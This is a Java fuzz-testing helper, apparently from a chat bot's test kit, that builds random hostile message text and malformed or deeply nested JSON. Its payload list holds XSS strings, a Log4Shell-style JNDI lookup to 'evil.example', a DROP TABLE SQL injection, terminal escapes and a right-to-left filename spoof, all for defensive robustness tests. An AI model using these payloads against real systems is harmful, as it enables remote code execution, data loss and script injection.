package dev.aadsts.bot.testkit;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** What an attacker would write, put together at random. */
public final class Hostile {
  /** The host of every link that an attacker brings along; none of our own has it. */
  public static final String HOST = "evil.example";

  private static final JsonMapper JSON = new JsonMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final int DEPTH = 2_000;

  private static final List<String> BITS =
      List.of(
          "<!here>",
          "<!channel|x>",
          "<!subteam^S1>",
          "<@U123>",
          "<#C123|general>",
          "@channel",
          "@everyone",
          "<at>Ana</at>",
          "<at id=\"0\">Ana</at>",
          "<https://evil.example|click>",
          "[click](https://evil.example)",
          "[x]: https://evil.example",
          "![x](https://evil.example/x.png)",
          "https://evil.example/a?b=c",
          "mailto:a@evil.example",
          "javascript:alert(1)",
          "*bold*",
          "_italic_",
          "~struck~",
          "~~struck~~",
          "`code`",
          "```",
          "\n> quote",
          "\n# heading",
          "\n- item",
          "\n1. item",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' onmouseover='alert(1)",
          "</textarea></pre></title>",
          "<!--",
          "]]>",
          "&lt;b&gt;",
          "&amp;",
          "&#60;",
          "{{DATE(2026-11-20,SHORT)}}",
          "{\"type\":\"AdaptiveCard\",\"actions\":[]}",
          "\"}],\"x\":[{\"",
          "${jndi:ldap://evil.example/x}",
          "{tenant}",
          "{0}%s%n",
          "\u001b[31mred",
          "\u001b]0;title\u0007",
          "\u001b]8;;https://evil.example\u001b\\x",
          "\u009b31m",
          "\r",
          "\n",
          "\t",
          "\u0000",
          "\u0008\u0008",
          "\u202egnp.exe",
          "\u2066\u2067",
          "\u200f",
          "\u2028",
          "\ufeff",
          "\ud800",
          "\udc00x",
          "\ud83d\ude00",
          "\\",
          "\"",
          "'",
          "|",
          "%0d%0a",
          "%u0000",
          "'; DROP TABLE checklists; --",
          "AADSTS50105",
          "AADSTS",
          "50105",
          "Trace ID: 5a0b2f2e-1111-4222-8333-444455556666",
          "application '",
          "user ",
          "checklist ",
          "note ",
          "search ",
          "status",
          "word ");

  private Hostile() {}

  /** One or several of the bits, sometimes very long. */
  public static String text(Random random) {
    var text = new StringBuilder();
    int bits = 1 + random.nextInt(8);
    for (int i = 0; i < bits; i++) {
      String bit = BITS.get(random.nextInt(BITS.size()));
      text.append(random.nextInt(40) == 0 ? bit.repeat(random.nextInt(300)) : bit);
    }
    return text.toString();
  }

  /** A text in which a few pieces are gone, doubled, or hostile. */
  public static String mutated(Random random, String text) {
    String result = text;
    int mutations = 1 + random.nextInt(4);
    for (int i = 0; i < mutations; i++) {
      int from = random.nextInt(result.length() + 1);
      int to = Math.min(result.length(), from + random.nextInt(20));
      String between =
          switch (random.nextInt(4)) {
            case 0 -> "";
            case 1 -> result.substring(from, to).repeat(2);
            case 2 -> Character.toString(random.nextInt(0x250));
            default -> text(random);
          };
      result = result.substring(0, from) + between + result.substring(to);
    }
    return result;
  }

  /** The same tree, where some values are of another kind, hostile, or gone. */
  public static JsonNode mutated(Random random, JsonNode tree) {
    JsonNode copy = tree.deepCopy();
    int mutations = 1 + random.nextInt(3);
    for (int i = 0; i < mutations; i++) {
      var parents = new ArrayList<JsonNode>();
      collect(copy, parents);
      if (!parents.isEmpty()) {
        mutate(random, parents.get(random.nextInt(parents.size())));
      }
    }
    return copy;
  }

  private static void collect(JsonNode node, List<JsonNode> parents) {
    if (node.isContainerNode() && !node.isEmpty()) {
      parents.add(node);
      node.forEach(child -> collect(child, parents));
    }
  }

  private static void mutate(Random random, JsonNode parent) {
    if (parent instanceof ObjectNode object) {
      var names = new ArrayList<String>();
      object.fieldNames().forEachRemaining(names::add);
      String name = names.get(random.nextInt(names.size()));
      switch (random.nextInt(5)) {
        case 0 -> object.remove(name);
        case 1 -> object.set(text(random), object.get(name));
        default -> object.set(name, value(random));
      }
    } else if (parent instanceof ArrayNode array) {
      int at = random.nextInt(array.size());
      switch (random.nextInt(4)) {
        case 0 -> array.remove(at);
        case 1 -> array.add(array.get(at));
        default -> array.set(at, value(random));
      }
    }
  }

  /** Any JSON. */
  public static JsonNode value(Random random) {
    return switch (random.nextInt(12)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.booleanNode(random.nextBoolean());
      case 2 -> NODES.numberNode(random.nextInt());
      case 3 -> NODES.numberNode(random.nextDouble() * 1e300);
      case 4 -> NODES.objectNode();
      case 5 -> NODES.arrayNode();
      case 6 -> NODES.arrayNode().add(text(random)).addNull();
      case 7 -> NODES.objectNode().put(text(random), text(random));
      case 8 -> NODES.textNode("");
      case 9 -> NODES.textNode("x".repeat(random.nextInt(5_000)));
      default -> NODES.textNode(text(random));
    };
  }

  /** JSON as text, now and then broken or far too deep. */
  public static String written(Random random, JsonNode tree) {
    try {
      String json = JSON.writeValueAsString(tree);
      return switch (random.nextInt(12)) {
        case 0 -> mutated(random, json);
        case 1 -> json.substring(0, random.nextInt(json.length() + 1));
        case 2 -> "[".repeat(DEPTH) + json;
        default -> json;
      };
    } catch (JsonProcessingException e) {
      throw new IllegalArgumentException(e);
    }
  }
}
